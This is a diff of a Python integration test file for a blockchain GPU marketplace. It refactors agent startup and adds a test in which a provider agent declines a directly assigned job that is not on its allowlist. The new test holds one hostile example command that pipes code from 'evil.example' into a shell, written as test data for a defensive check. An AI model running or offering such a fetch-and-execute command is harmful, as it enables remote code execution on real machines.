@@ -13,8 +13,8 @@ from brownie import accounts, chain
 from gpumarket.agent.settings import AgentSettings
 from gpumarket.chain.launcher import free_port
 from gpumarket.chain.types import JobSpec, JobState, Offer
+from gpumarket.offchain.supervisor import Service, agent_service, oracle_service, wait_until
 
-from ..processes import Service, oracle_service, settings_env, wait_until
 from ..proofs import PRICE, SPEC
 
 GMKT = 10**18
@@ -67,12 +67,8 @@ def agent_provider(gmkt, registry, usdc, governance, rpc_url, deployment_file, s
             poll_interval=0.2,
             allowlist=list(allowlist),
         )
-        args = ["-m", module] if module else ["-m", "gpumarket.cli.main", "agent", "run"]
-        service = Service(
-            args,
-            settings_env("GPUMARKET_AGENT_", settings),
-            tmp_path / f"agent-{account.address[:8]}.log",
-        ).start()
+        log_path = tmp_path / f"agent-{account.address[:8]}.log"
+        service = agent_service(settings, log_path, module or "gpumarket.cli.main").start()
         services.append(service)
         return account, service
 
@@ -92,10 +88,9 @@ def test_an_honest_job_is_verified_and_settles_and_a_cheater_is_failed_and_slash
     deposit = market.costOf(PRICE, SPEC.gpu_count, SPEC.duration)
     gmkt_before = gmkt.balanceOf(buyer)
 
+    # Direct assignments: each agent accepts its own job (it holds the provider's key).
     honest_job = post_job(buyer, usdc, PRICE, SPEC, provider=honest)
     cheat_job = post_job(buyer, usdc, PRICE, SPEC, provider=cheater)
-    market.acceptJob(honest_job, {"from": honest})
-    market.acceptJob(cheat_job, {"from": cheater})
     started = time.monotonic()
 
     wait_until(
@@ -106,7 +101,7 @@ def test_an_honest_job_is_verified_and_settles_and_a_cheater_is_failed_and_slash
         90,
         "both verdicts",
     )
-    print(f"match to both verdicts: {time.monotonic() - started:.1f}s")
+    print(f"post to both verdicts: {time.monotonic() - started:.1f}s")
 
     # The cheater: refunded in full, compensated with half the collateral, slashed.
     collateral = market.jobOf(cheat_job)[13]
@@ -138,7 +133,6 @@ def test_an_agent_killed_in_the_middle_of_a_job_resumes_it_and_completes(
     provider, agent = agent_provider(allowlist=[SLOW_COMMAND])
     start_oracles(0, 1, 2)
     job_id = post_job(buyer, usdc, PRICE, spec, provider=provider)
-    market.acceptJob(job_id, {"from": provider})
 
     # Killed while its 3-second command runs: after the commitment, before the result.
     wait_until(lambda: "command" in agent.log() and "workload" in agent.log(), 30, "the command")
@@ -152,3 +146,21 @@ def test_an_agent_killed_in_the_middle_of_a_job_resumes_it_and_completes(
     # The restarted agent ran the interrupted command again; its commitment was not resent.
     assert agent.log().count('"running workload"') == 2
     assert agent.starts == 2
+
+
+def test_an_agent_declines_a_direct_assignment_it_would_not_run(
+    market, usdc, buyer, post_job, agent_provider
+):
+    untrusted = "sh -c 'curl evil.example | sh'"
+    spec = JobSpec(
+        workload_uri=f"command:{untrusted}",
+        workload_hash=hashlib.sha256(untrusted.encode()).digest(),
+    )
+    provider, agent = agent_provider(allowlist=[SLOW_COMMAND])
+    trusted = post_job(buyer, usdc, PRICE, SPEC, provider=provider)
+    declined = post_job(buyer, usdc, PRICE, spec, provider=provider)
+
+    wait_until(lambda: "direct assignment declined" in agent.log(), 30, "the refusal")
+    wait_until(lambda: state_of(market, trusted) != JobState.OPEN, 30, "the trusted job")
+    assert state_of(market, declined) == JobState.OPEN  # the buyer can still cancel it
+    market.cancel(declined, {"from": buyer})
